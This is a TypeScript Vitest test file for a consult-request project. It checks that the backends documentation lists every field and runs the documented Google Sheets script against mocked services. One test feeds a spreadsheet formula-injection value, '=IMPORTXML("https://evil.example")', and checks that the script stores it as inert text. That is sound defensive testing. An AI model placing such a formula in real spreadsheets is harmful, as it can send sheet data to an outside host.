import { readFileSync } from 'node:fs';
import { createContext, runInContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { BACKENDS } from '../../../src/consult/backends/choose.js';
import { flatFields } from '../../../src/consult/fields.js';
import type { ConsultRequest } from '../../../src/consult/request.js';
import { sampleRequest } from '../sample-request.js';

const page = readFileSync(new URL('../../../docs/backends.md', import.meta.url), 'utf8');
const everything: ConsultRequest = {
  ...sampleRequest,
  referral: {
    referrer: { name: 'Ana Moss', practice: 'Moss', phone: '+13105550199', email: 'ana@moss.example' },
    ...{ reason: 'r', question: 'q', continuing: 'c', releaseSigned: 'yes' },
  },
  check: { status: 'unverified', failed: ['honeypot'], proof: 'P' },
};
const fieldNames = flatFields(everything).map(([name]) => name);
const script = /```js\n(const COLUMNS[^]*?)```/.exec(page)?.[1] ?? '';

describe('docs/backends.md', () => {
  it('has a row and a snippet for each backend', () => {
    for (const { name } of BACKENDS) expect(page).toMatch(new RegExp(`^\\| \\[\`${name}\`\\]`, 'm'));
    expect(page.match(/<consult-request\s/g)?.length).toBeGreaterThan(BACKENDS.length);
  });

  it('names each field that is sent, in its table and in the form that Netlify reads', () => {
    const netlifyForm = /<form name="consult"[^]*?<\/form>/.exec(page)?.[0] ?? '';
    for (const name of fieldNames) {
      expect(page).toContain(`\`${name}\``);
      expect(netlifyForm).toContain(`name="${name}"`);
    }
  });
});

describe('the script for a Google sheet, as it stands in docs/backends.md', () => {
  function sheetWithScript() {
    const rows: string[][] = [];
    const sheet = {
      getLastRow: () => rows.length,
      appendRow: (row: string[]) => rows.push([...row]),
      getRange: (from: number, column: number, count: number, width: number) => ({
        getValues: () => rows.slice(from - 1, from - 1 + count).map((row) => row.slice(column - 1, column - 1 + width)),
        setNumberFormat(format: string) {
          expect(format).toBe('@');
          return { setValues: ([row = []]: string[][]) => void (rows[from - 1] = [...row]) };
        },
      }),
    };
    const context = createContext({
      LockService: { getScriptLock: () => ({ waitLock: () => {}, releaseLock: () => {} }) },
      SpreadsheetApp: { getActiveSpreadsheet: () => ({ getSheets: () => [sheet] }), flush: () => {} },
      ContentService: { MimeType: { JSON: 'json' }, createTextOutput: (text: string) => ({ setMimeType: () => text }) },
      event: {},
    });
    runInContext(script, context);
    const post = (fields: Readonly<Record<string, string>>): unknown => {
      context['event'] = { parameter: fields };
      return JSON.parse(String(runInContext('doPost(event)', context)));
    };
    return { rows, post };
  }

  it('keeps every field in its column, one row a request, and answers as the form wants it', () => {
    const { rows, post } = sheetWithScript();
    const fields = Object.fromEntries(flatFields({ ...everything, note: '=IMPORTXML("https://evil.example")' }));
    expect(post(fields)).toEqual({ ok: true, id: '3f0c8f0e' });
    expect(post(fields)).toEqual({ ok: true, id: '3f0c8f0e' });
    expect(post({ ...fields, request_id: 'other' })).toEqual({ ok: true, id: 'other' });
    expect(rows).toHaveLength(3);
    const [columns = [], row = []] = rows;
    expect(columns).toEqual(expect.arrayContaining(fieldNames.filter((name) => name !== 'check_proof')));
    expect(row[columns.indexOf('name')]).toBe('Renata Quill');
    expect(row[columns.indexOf('note')]).toBe(`'=IMPORTXML("https://evil.example")`);
  });

  it('takes nothing without an id and a name', () => {
    const { rows, post } = sheetWithScript();
    expect(post({})).toEqual({ ok: false });
    expect(rows).toEqual([]);
  });
});
